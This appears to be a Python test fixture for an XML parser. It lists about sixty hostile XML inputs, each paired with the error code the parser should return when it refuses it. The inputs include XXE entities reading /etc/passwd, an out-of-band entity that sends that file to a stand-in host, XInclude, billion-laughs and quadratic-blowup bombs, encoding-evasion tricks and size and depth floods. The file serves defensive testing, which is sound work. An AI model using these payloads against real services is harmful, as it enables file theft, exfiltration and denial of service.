"""XML that is meant to hurt whoever reads it, and the code of the problem that refuses each."""

from __future__ import annotations

from engine.markup import MAX_BYTES, MAX_DEPTH

LAUGHS = '<!DOCTYPE a [<!ENTITY l0 "ha">' + "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)) + "]><a>&l9;</a>"
EXTERNAL = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'

ATTACKS: dict[str, tuple[bytes, str]] = {
    "external entity": (EXTERNAL.encode(), "xml-dtd"),
    "external entity over http": (EXTERNAL.replace("file:///etc/passwd", "http://127.0.0.1:9/x").encode(), "xml-dtd"),
    "parameter entity": (b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p.dtd">%p;]><a/>', "xml-dtd"),
    "external DTD": (b'<!DOCTYPE a SYSTEM "http://127.0.0.1:9/a.dtd"><a/>', "xml-dtd"),
    "billion laughs": (LAUGHS.encode(), "xml-dtd"),
    "quadratic blow-up": (f'<!DOCTYPE a [<!ENTITY x "{"y" * 50000}">]><a>{"&x;" * 5000}</a>'.encode(), "xml-dtd"),
    "default attributes": (b'<!DOCTYPE a [<!ATTLIST a id CDATA "forged">]><a/>', "xml-dtd"),
    "doctype in lower case": (b"<!doctype a><a/>", "xml-dtd"),
    "doctype after a comment": (b"<!-- quiet -->\n<!DOCTYPE a><a/>", "xml-dtd"),
    "doctype in UTF-16 with BOM": (EXTERNAL.encode("utf-16"), "xml-dtd"),
    "doctype in UTF-16 big-endian with BOM": (b"\xfe\xff" + EXTERNAL.encode("utf-16-be"), "xml-dtd"),
    "doctype in UTF-16 without BOM": (EXTERNAL.encode("utf-16-le"), "xml-syntax"),
    "doctype in UTF-8 with BOM": (b"\xef\xbb\xbf" + EXTERNAL.encode(), "xml-dtd"),
    "doctype in GBK": (b'<?xml version="1.0" encoding="GBK"?>' + EXTERNAL.encode("gbk"), "xml-dtd"),
    "doctype in UTF-7": (b'<?xml version="1.0" encoding="UTF-7"?>' + EXTERNAL.encode("utf-7"), "xml-encoding"),
    "doctype in EBCDIC": (EXTERNAL.encode("cp037"), "xml-encoding"),
    "doctype in UTF-32": (b"\xff\xfe\x00\x00" + EXTERNAL.encode("utf-32-le"), "xml-encoding"),
    "an encoding nobody knows": (b'<?xml version="1.0" encoding="x-none"?><a/>', "xml-encoding"),
    "an encoding that decodes to anything": (b'<?xml version="1.0" encoding="rot13"?><a/>', "xml-encoding"),
    "bytes that are not UTF-8": (b"<a>\n\xff\xff</a>", "xml-encoding"),
    "XInclude": (b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>', "xml-include"),
    "an undefined entity": (b"<a>&secret;</a>", "xml-syntax"),
    "ten thousand levels": (b"<a>" * 10_000 + b"</a>" * 10_000, "xml-syntax"),
    "one level too many": (b"<a>" * (MAX_DEPTH + 1) + b"</a>" * (MAX_DEPTH + 1), "xml-depth"),
    "ninety thousand attributes": (b"<a " + b" ".join(b"a%d=''" % n for n in range(90_000)) + b"/>", "xml-attributes"),
    "one attribute twice": (b'<a id="1" id="2"/>', "xml-syntax"),
    "a megabyte of brackets": (b"<" * MAX_BYTES, "xml-size"),
    "more than a megabyte": (b"<a>" + b" " * MAX_BYTES + b"</a>", "xml-size"),
    "control characters": (b"<a>\x00\x01</a>", "xml-syntax"),
    "nothing": (b"", "xml-syntax"),
    "two roots": (b"<a/><b/>", "xml-syntax"),
    "billion laughs in the second entity": (b'<!DOCTYPE a [<!ENTITY a "1"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>', "xml-dtd"),
    "laughs by parameter entities": (b'<!DOCTYPE a [<!ENTITY % a "x"><!ENTITY % b "%a;%a;">%b;]><a/>', "xml-dtd"),
    "an entity that names itself": (b'<!DOCTYPE a [<!ENTITY a "&a;">]><a>&a;</a>', "xml-dtd"),
    "an entity sent abroad": (b'<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/passwd">'
                              b'<!ENTITY % o "<!ENTITY s SYSTEM \'http://x/?%f;\'>">]><a/>', "xml-dtd"),
    "a doctype with a public id": (b'<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://127.0.0.1:9/x.dtd"><a/>', "xml-dtd"),
    "a doctype with a gap": (b"<! DOCTYPE a><a/>", "xml-dtd"),
    "a doctype that hides in a comment": (b"<!-- <!DOCTYPE a> --><a/>", "xml-dtd"),
    "an external entity by another scheme": (EXTERNAL.replace("file:///etc/passwd", "netdoc:/etc/passwd").encode(), "xml-dtd"),
    "a doctype in UTF-16 that calls itself UTF-8": (
        '<?xml version="1.0" encoding="UTF-8"?>'.encode("utf-16") + EXTERNAL.encode("utf-16-le"), "xml-dtd"),
    "UTF-16 without BOM that says so": ('<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16-le"), "xml-syntax"),
    "UTF-16 in a declaration of bytes": (b'<?xml version="1.0" encoding="UTF-16"?><a/>', "xml-encoding"),
    "UTF-7 spelt in small letters": (b'<?xml version="1.0" encoding="utf-7"?>+ADw-a/+AD4-', "xml-encoding"),
    "UTF-7 without a declaration": (b"+ADwAIQ-DOCTYPE a+AD4-", "xml-syntax"),
    "half of a UTF-16 pair": (b"\xff\xfe<\x00a\x00/\x00>\x00\x00\xd8", "xml-encoding"),
    "overlong UTF-8": (b"<a>\xc0\xbc!DOCTYPE</a>", "xml-encoding"),
    "an attribute of half a megabyte": (b'<a b="' + b"x" * 500_000 + b'"/>', "xml-attributes"),
    "an attribute of references": (b'<a b="' + b"&#120;" * 100_000 + b'"/>', "xml-attributes"),
    "a hundred thousand elements": (b"<a>" + b"<b/>" * 100_001 + b"</a>", "xml-size"),
    "a thousand namespaces": (b"<a " + b" ".join(b"xmlns:n%d='u%d'" % (n, n) for n in range(1_000)) + b"/>", "xml-size"),
    "two hundred levels of attributes": (b"<a b='1'>" * 200 + b"</a>" * 200, "xml-depth"),
    "a name of half a megabyte": (b"<" + b"a" * 500_000 + b"/>", "xml-syntax"),
    "an instruction that is a declaration": (b'<a/><?xml version="1.0" encoding="UTF-7"?>', "xml-syntax"),
    "a comment that never ends": (b"<a><!-- " + b"-" * 900_000, "xml-syntax"),
    "character data that never ends": (b"<a><![CDATA[" + b"]]" * 400_000, "xml-syntax"),
    "a reference to nothing": (b"<a>&#0;</a>", "xml-syntax"),
    "XInclude deep inside": (b'<a xmlns:i="http://www.w3.org/2001/XInclude"><b><i:include href="x"/></b></a>', "xml-include"),
}
